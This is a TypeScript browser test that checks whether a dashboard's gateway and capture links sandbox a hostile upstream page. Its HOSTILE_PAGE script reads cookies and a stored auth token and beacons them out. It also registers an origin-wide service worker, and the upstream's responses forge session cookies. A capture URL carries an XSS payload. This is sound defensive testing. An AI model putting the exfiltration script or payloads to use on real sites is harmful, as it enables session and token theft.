import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { type Dashboard, skipReason, startDashboard } from './harness.js';

/**
 * A hostile upstream, as anyone with a bucket key could point the gateway at: its page runs a script
 * that reports what it can reach (cookies, the dashboard's token, a service worker over the whole
 * origin) to /beacon, and its answer tries to set Vigil's session cookie.
 */
const HOSTILE_PAGE = `<!doctype html><title>hostile</title><script>
  const from = '&from=' + encodeURIComponent(location.pathname);
  const report = {};
  try { report.cookie = document.cookie; } catch (e) { report.cookie = 'denied'; }
  try { report.token = localStorage.getItem('vigil.token'); } catch (e) { report.token = 'denied'; }
  fetch('/beacon?ran=' + encodeURIComponent(JSON.stringify(report)) + from).catch(() => {});
  new Image().src = 'BEACON_URL?img=' + encodeURIComponent(JSON.stringify(report)) + from;
  navigator.serviceWorker && navigator.serviceWorker.register('sw.js', { scope: '/' })
    .then(() => { new Image().src = 'BEACON_URL?sw=registered' + from; })
    .catch((e) => { new Image().src = 'BEACON_URL?sw=' + encodeURIComponent(String(e)) + from; });
</script><p>hostile page</p>`;

describe('a signed-in user opening gateway and capture links', { skip: skipReason() }, () => {
  let dash: Dashboard;
  let upstream: http.Server;
  let upstreamBase = '';
  const beacons: string[] = [];
  const cookiesSeen: (string | undefined)[] = [];
  /** Reports of pages other than the probe served directly (whose late reports may still arrive). */
  const relayedBeacons = () => beacons.filter((beacon) => !beacon.includes('from=%2Fdirect%2F'));

  before(async () => {
    upstream = http.createServer((request, response) => {
      const url = request.url ?? '/';
      if (url.startsWith('/beacon')) {
        beacons.push(url);
        response.writeHead(204);
        return response.end();
      }
      cookiesSeen.push(request.headers.cookie);
      if (url.endsWith('/sw.js')) {
        response.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
        return response.end("self.addEventListener('fetch', () => {});");
      }
      response.writeHead(200, {
        'content-type': 'text/html; charset=utf-8',
        'set-cookie': ['vigil_session=forged; Path=/', 'planted=1; Path=/'],
        'service-worker-allowed': '/',
      });
      response.end(HOSTILE_PAGE.replaceAll('BEACON_URL', `http://${upstreamBase}/beacon`));
    });
    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
    upstreamBase = `127.0.0.1:${(upstream.address() as AddressInfo).port}`;
    dash = await startDashboard();
  });

  after(async () => {
    await dash?.close();
    upstream?.closeAllConnections();
    await new Promise<void>((resolve) => upstream?.close(() => resolve()));
  });

  test('the hostile page does run when served by its own site (the probe works)', async () => {
    const context = await dash.browser.newContext();
    try {
      const page = await context.newPage();
      await page.goto(`http://${upstreamBase}/direct/page`);
      await waitFor(() => beacons.some((b) => b.includes('ran=')), 'the direct page reports');
      // Its service worker settles before the page goes: closing earlier aborts the registration,
      // and the page reports that too.
      await waitFor(
        () => beacons.some((b) => b.includes('sw=')),
        'the direct page reports its service worker',
      );
      assert.ok(
        beacons.every((b) => b.includes('from=%2Fdirect%2F')),
        `every report names the page it came from: ${beacons.join(', ')}`,
      );
    } finally {
      await context.close();
    }
    beacons.length = 0;
    cookiesSeen.length = 0;
  });

  test('through the gateway and the capture URL no script runs, no Vigil cookie leaves, the session stays', async () => {
    const { context, page } = await dash.signedIn({ bypassCSP: false });
    try {
      const dashboardOrigin = new URL(dash.base).origin;
      const cookiesBefore = await context.cookies(dashboardOrigin);
      const session = cookiesBefore.find((c) => c.name === 'vigil_session');
      assert.ok(session, 'signed in with a session cookie');
      const token = await page.evaluate(() => localStorage.getItem('vigil.token'));
      assert.ok(token, 'the dashboard holds its token');

      const gatewayLink = `${dash.traffic}/gateway/${dash.bucket}/http/${upstreamBase}/evil/page`;
      const captureLink = `${dash.traffic}/capture/${dash.bucket}/evil?x=<script>alert(1)</script>`;
      for (const link of [gatewayLink, captureLink]) {
        const tab = await context.newPage();
        const answer = await tab.goto(link);
        assert.equal(answer?.status(), 200, link);
        assert.match(String(answer?.headers()['content-security-policy']), /sandbox/);
        await tab.waitForLoadState('load');
        await tab.close();
      }
      // Give a script that did run every chance to report before looking.
      await page.waitForTimeout(500);
      assert.deepEqual(relayedBeacons(), [], 'no script of the relayed page ran');

      assert.ok(cookiesSeen.length > 0, 'the gateway reached the upstream');
      for (const cookie of cookiesSeen) {
        assert.doesNotMatch(cookie ?? '', /vigil_session|vigil_csrf/, 'no Vigil cookie reached the upstream');
      }

      const cookiesAfter = await context.cookies(dashboardOrigin);
      assert.equal(cookiesAfter.find((c) => c.name === 'vigil_session')?.value, session.value);
      assert.equal(
        cookiesAfter.find((c) => c.name === 'planted'),
        undefined,
        'the upstream set no cookie',
      );
      assert.equal(await page.evaluate(() => localStorage.getItem('vigil.token')), token);
      const workers = await page.evaluate(
        async () => (await navigator.serviceWorker.getRegistrations()).length,
      );
      assert.equal(workers, 0, 'no service worker on the dashboard origin');

      // Still signed in: the dashboard loads, and its token still works.
      await page.reload();
      await page.getByRole('navigation', { name: 'Main' }).waitFor();
      const account = await fetch(`${dash.base}/account`, { headers: { authorization: `Bearer ${token}` } });
      assert.equal(account.status, 200);

      // The captured request, hostile query and all, opens in the dashboard without running anything.
      const captures = await dash.api<{ uuid: string }[]>('GET', `/buckets/${dash.bucket}/captures?count=5`);
      await page.goto(`${dash.base}/app/b/${dash.bucket}/messages/${captures.data[0]!.uuid}`);
      await page.getByText('/evil', { exact: false }).first().waitFor();
      await page.waitForTimeout(200);
      assert.deepEqual(relayedBeacons(), []);
    } finally {
      await context.close();
    }
  });
});

async function waitFor(check: () => boolean, what: string): Promise<void> {
  for (let i = 0; i < 100; i++) {
    if (check()) return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  assert.fail(`timed out waiting until ${what}`);
}
